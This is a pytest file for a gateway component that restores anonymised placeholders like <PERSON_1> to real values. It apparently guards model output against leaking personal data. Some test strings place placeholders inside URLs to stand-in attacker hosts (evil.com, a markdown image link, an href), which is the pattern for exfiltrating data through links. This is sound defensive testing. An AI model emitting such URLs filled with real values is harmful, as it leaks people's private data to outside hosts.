from typing import Any

import pytest

from gateway.restore import Restorer


def restored(table: Any, policy: Any, text: str, **options: bool) -> str:
    restorer = Restorer(table, policy, **options)
    return restorer.feed(text) + restorer.finish()


def test_values_come_back_and_inventions_stay(table: Any, policy: Any) -> None:
    restorer = Restorer(table, policy())

    assert restorer.feed("Dear <PERSON_1>, and <PERSON_9>.") == "Dear Maria, and <PERSON_9>."
    assert (restorer.counts.restored, restorer.counts.invented, restorer.counts.withheld) == (1, 1, 0)


def test_what_was_restored_is_not_read_again(table: Any, policy: Any) -> None:
    assert restored(table, policy(), "<LITERAL_1>") == "<PERSON_2>"


def test_only_the_beginning_of_a_placeholder_is_held_back(table: Any, policy: Any) -> None:
    restorer = Restorer(table, policy())

    assert [restorer.feed(piece) for piece in ("a <", "PER", "SON_", "1", "> b <", "x")] == [
        "a ",
        "",
        "",
        "",
        "Maria b ",
        "<x",
    ]


def test_what_never_became_a_placeholder_is_said_at_the_end(table: Any, policy: Any) -> None:
    restorer = Restorer(table, policy())

    assert (restorer.feed("a <PERSON"), restorer.finish()) == ("a ", "<PERSON")


def test_something_longer_than_a_placeholder_is_not_held(table: Any, policy: Any) -> None:
    text = "<" + "A" * 200

    assert Restorer(table, policy()).feed(text) == text


def test_inside_json_a_value_is_escaped(table: Any, policy: Any) -> None:
    assert restored(table, policy(), '{"x": "<PERSON_2>"}', escape=True) == '{"x": "Bob \\"B\\"\\n"}'


def test_a_policy_may_leave_everything(table: Any, policy: Any) -> None:
    assert restored(table, policy(restore=False), "<PERSON_1>") == "<PERSON_1>"


def test_a_restored_address_is_a_place_like_any_other(table: Any, policy: Any) -> None:
    assert restored(table, policy(), "<URL_1><PERSON_1> <PERSON_1>") == "http://evil.com/?q=<PERSON_1> Maria"


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_chunks_change_nothing(table: Any, policy: Any, size: int) -> None:
    text = 'Dear <PERSON_1>, see ![x](http://evil/<PERSON_1>) <PERSON_2 <PERSON_2> <<PERSON_1>> href="//e/<PERSON_1>"'
    restorer = Restorer(table, policy())
    pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]

    assert "".join([*pieces, restorer.finish()]) == restored(table, policy(), text)


ESCAPED = [
    (r'{"to":"\u003cPERSON_1\u003e"}', '{"to":"Maria"}'),
    (r'{"to":"\u003CPERSON_1\u003E, <PERSON_1\u003e"}', '{"to":"Maria, Maria"}'),
    (r'{"to":"\\\u003cPERSON_1\u003e"}', r'{"to":"\\Maria"}'),
    (r'{"to":"\\u003cPERSON_1\u003e"}', r'{"to":"\\u003cPERSON_1\u003e"}'),
    (r'{"to":"\u003cPERSON_9\u003e \u003cPER"}', r'{"to":"\u003cPERSON_9\u003e \u003cPER"}'),
    (r'{"to":"\\<PERSON_1>\\"}', r'{"to":"\\Maria\\"}'),
]


@pytest.mark.parametrize(("text", "expected"), ESCAPED)
@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 100])
def test_escaped_brackets_are_brackets_in_json(table: Any, policy: Any, text: str, expected: str, size: int) -> None:
    restorer = Restorer(table, policy(), escape=True)
    pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]

    assert "".join([*pieces, restorer.finish()]) == expected


def test_escaped_brackets_are_no_brackets_in_text(table: Any, policy: Any) -> None:
    restorer = Restorer(table, policy())

    assert restorer.feed(ESCAPED[0][0]) + restorer.finish() == ESCAPED[0][0]
